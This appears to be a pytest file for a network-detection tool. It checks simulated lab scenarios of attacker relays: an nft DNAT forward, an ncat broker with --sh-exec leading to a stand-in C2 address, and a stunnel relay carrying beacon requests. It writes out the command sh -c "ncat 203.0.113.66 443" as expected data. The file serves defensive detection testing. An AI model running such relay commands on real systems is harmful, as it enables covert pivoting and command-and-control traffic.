"""What the relay scenarios must show beyond the generic truth check (test_lab.py): the nft
DNAT as config changes and a kernel forward, the ncat broker's parties, stunnel's TLS-in,
cleartext-out legs."""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from hopguard.ingest.pipeline import ingest_file
from hopguard.lab.truth import Truth
from hopguard.store import Store
from tests.lab.conftest import syns

pytestmark = [pytest.mark.lab, pytest.mark.root]

APP, WS042, WS051, DB09, C2 = "10.10.2.7", "10.10.1.42", "10.10.1.51", "10.10.5.9", \
    "203.0.113.66"


def lab_run(scenario_run: Callable[[str], Path], name: str) -> tuple[Path, dict[str, Any]]:
    """The session's shared run of a scenario (tests/lab/conftest.py) and its truth."""
    out = scenario_run(name)
    return out, Truth.read(out / "truth.json")


def store_of(*files: Path) -> Store:
    store = Store.open(":memory:")
    for path in files:
        result = ingest_file(store, path, sensor="lab")
        assert result.failure is None, result.failure
    return store


# -- nft-dnat ---------------------------------------------------------------------------------

def test_nft_dnat_truth(scenario_run: Callable[[str], Path]) -> None:
    _, truth = lab_run(scenario_run, "nft-dnat")
    [relay] = truth["relays"]
    assert (relay["relay"], relay["client"], relay["in_port"], relay["upstream"],
            relay["up_port"]) == (APP, WS042, 2222, DB09, 22)
    assert (relay["kind"], relay["tool"], relay["pid"], relay["host"]) == \
        ("kernel", "nft", None, "app-07")
    argvs = [t["argv"] for t in truth["tools"] if t["host"] == "app-07"]
    assert any(Path(a[0]).name == "sysctl" and "net.ipv4.ip_forward=1" in a for a in argvs)
    assert any(Path(a[0]).name == "nft" and "dnat" in a for a in argvs)
    assert relay["start"] < relay["end"]


def test_nft_dnat_config_changes(scenario_run: Callable[[str], Path]) -> None:
    out, truth = lab_run(scenario_run, "nft-dnat")
    [nft_pid] = [t["pid"] for t in truth["tools"]
                 if {"rule", "prerouting", "dnat"} <= set(t["argv"])]
    store = store_of(out / "nft-monitor.log", out / "audit.log")
    try:
        # nft monitor: the rule itself, on app-07, committed by the nft process that ran
        rules = store.query(
            "SELECT host, action, object, detail, pid, image FROM config_change "
            "WHERE source = 'nft' AND event_code = 'rule' AND detail LIKE '%dnat to%'"
        ).to_pylist()
        assert rules == [{"host": "app-07", "action": "add", "object": "ip nat prerouting",
                          "detail": f"ip daddr {APP} tcp dport 2222 dnat to {DB09}:22",
                          "pid": nft_pid, "image": "nft"}]
        hosts = {r["host"] for r in store.query(
            "SELECT DISTINCT host FROM config_change WHERE source = 'nft'").to_pylist()}
        assert hosts == {"app-07"}
        deleted = store.query(
            "SELECT object FROM config_change WHERE source = 'nft' AND action = 'delete' "
            "AND event_code = 'table'").to_pylist()
        assert {r["object"] for r in deleted} == {"ip nat", "ip filter"}
        # audit: the kernel's own NETFILTER_CFG record of the same commit
        nf = store.query(
            "SELECT host, action, object FROM config_change WHERE event_code = 'NETFILTER_CFG'"
            " AND pid = ?", [nft_pid]).to_pylist()
        assert nf == [{"host": "app-07", "action": "nft_register_rule", "object": "nat/ip"}]
    finally:
        store.close()
    assert "NETFILTER_CFG" in (out / "audit.log").read_text()


def test_nft_dnat_forward_keeps_the_client(scenario_run: Callable[[str], Path]) -> None:
    out, _ = lab_run(scenario_run, "nft-dnat")
    seen = syns(out / "capture.pcap")
    inbound = {sp for s, sp, d, dp in seen if (s, d, dp) == (WS042, APP, 2222)}
    outbound = {sp for s, sp, d, dp in seen if (s, d, dp) == (WS042, DB09, 22)}
    assert len(inbound) >= 2, "several ssh sessions through the forward"
    assert inbound <= outbound, "every forwarded session keeps ws-042's port on both legs"
    assert not any((s, d, dp) == (APP, DB09, 22) for s, _, d, dp in seen), "no SNAT"
    # db-09's sshd accepted ws-042's own address and port: the forward really reached it
    store = store_of(out / "audit.log")
    try:
        accepted = {r["src_port"] for r in store.query(
            "SELECT src_port FROM netconn WHERE host = 'db-09' AND event_code LIKE 'accept%' "
            "AND src_ip = ?", [WS042]).to_pylist()}
    finally:
        store.close()
    assert inbound <= accepted


# -- ncat-broker ------------------------------------------------------------------------------

def test_ncat_broker(scenario_run: Callable[[str], Path]) -> None:
    out, truth = lab_run(scenario_run, "ncat-broker")
    [relay] = truth["relays"]
    assert (relay["relay"], relay["client"], relay["in_port"], relay["upstream"],
            relay["up_port"], relay["tool"], relay["kind"], relay["user"]) == \
        (APP, WS042, 8444, C2, 443, "ncat", "process", "www-data")
    [broker] = [t for t in truth["tools"] if "--broker" in t["argv"]]
    [listener] = [t for t in truth["tools"] if "--sh-exec" in t["argv"]]
    assert listener["pid"] == relay["pid"]
    # the broker carried lines between every pair of parties, and the truth says so
    note = next(n for n in truth["notes"] if "--broker" in n)
    for a in ("ws-042", "ws-051", "app-07"):
        for b in ("ws-042", "ws-051", "app-07"):
            if a != b:
                assert f"{a} -> {b}" in note.split("Lines seen relayed")[1]
    assert "ws-051" not in truth["benign_hosts"]
    pairs = {(s, d, dp) for s, _, d, dp in syns(out / "capture.pcap")}
    assert {(WS042, APP, 4444), (WS051, APP, 4444)} <= pairs
    store = store_of(out / "audit.log")
    try:
        accepted = {r["src_ip"] for r in store.query(
            "SELECT src_ip FROM netconn WHERE host = 'app-07' AND pid = ? "
            "AND event_code LIKE 'accept%'", [broker["pid"]]).to_pylist()}
        assert accepted == {WS042, WS051, "127.0.0.1"}
        # the relay's outbound leg: an ncat run by sh -c "ncat 203.0.113.66 443"
        out_legs = store.query(
            "SELECT p.ppid FROM netconn n JOIN process p ON p.pid = n.pid AND p.host = n.host "
            "WHERE n.host = 'app-07' AND n.event_code = 'connect' AND n.dst_ip = ? "
            "AND n.dst_port = 443", [C2]).to_pylist()
        assert out_legs
        shells = {r["command_line"] for r in store.query(
            "SELECT command_line FROM process WHERE host = 'app-07' AND pid IN ("
            + ",".join(str(r["ppid"]) for r in out_legs) + ")").to_pylist()}
        assert shells == {f'sh -c "ncat {C2} 443"'}
    finally:
        store.close()


# -- tls-relay --------------------------------------------------------------------------------

def payloads(pcap: Path, bpf: str) -> str:
    return subprocess.run(["tcpdump", "-nr", str(pcap), "-A", bpf], capture_output=True,
                          text=True).stdout


def test_tls_relay(scenario_run: Callable[[str], Path]) -> None:
    out, truth = lab_run(scenario_run, "tls-relay")
    [relay] = truth["relays"]
    assert (relay["relay"], relay["client"], relay["in_port"], relay["upstream"],
            relay["up_port"], relay["tool"], relay["kind"]) == \
        (APP, WS042, 8443, C2, 80, "stunnel", "process")
    pcap = out / "capture.pcap"
    # inbound: TLS handshakes (record type 22) from ws-042, never the HTTP in clear
    tls = payloads(pcap, f"src host {WS042} and dst host {APP} and tcp dst port 8443 and "
                         "tcp[((tcp[12:1] & 0xf0) >> 2):1] = 0x16")
    assert tls.count(" > ") >= 2
    assert "GET /beacon" not in payloads(pcap, "tcp port 8443")
    # outbound: the same requests in clear from app-07 to the C2's port 80
    clear = payloads(pcap, f"src host {APP} and dst host {C2} and tcp dst port 80")
    assert clear.count("GET /beacon") >= 2
